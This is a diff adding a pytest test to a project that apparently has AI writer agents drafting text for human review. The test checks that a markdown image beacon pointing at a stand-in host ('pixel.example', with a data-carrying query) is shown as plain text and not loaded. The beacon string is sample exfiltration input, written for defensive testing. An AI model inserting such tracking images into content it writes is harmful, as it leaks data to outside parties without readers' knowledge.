@@ -11,8 +11,10 @@ import pytest
 from jsonschema import Draft202012Validator
 from pydantic import TypeAdapter
 
+from agents.voice.proposal import DraftProposal
 from agents.writer import WriterUnavailable
 from graph.answers import ReviewAnswer, decode, payload
+from state.markup import linked
 from state.records import REVIEW_POINTS, ReviewPoint
 from tests.graph.rig import POINT_OF, Acting, Flow, OpenFlow, Script, broken, changed
 
@@ -187,3 +189,19 @@ async def test_the_schema_tells_clients_what_to_answer(flow: OpenFlow) -> None:
         schema.validate(answer)
         assert decode(ReviewAnswer.model_validate(answer), await piece.shown())
     assert not schema.is_valid({"type": "maybe"})
+
+
+async def test_a_review_page_loads_nothing(flow: OpenFlow) -> None:
+    """An image that a writer put in is shown as the text it is, so that no browser that shows the review tells anybody; edits get the text."""
+    beacon = "![](https://pixel.example/p.png?d=notes)"
+    script = Script(answers={"voice.draft": lambda task: _with(task.by_rule(task.given), beacon)})
+    piece = await flow(script=script).to("review_draft")
+    shown = await piece.shown()
+    assert shown.stuck
+    assert beacon in dict(shown.args)["draft"]
+    assert not linked(shown.description).images
+    assert beacon in shown.description.replace("\\", "")
+
+
+def _with(made: DraftProposal, more: str) -> DraftProposal:
+    return made.model_copy(update={"body": f"{made.body}\n\n{more}"})
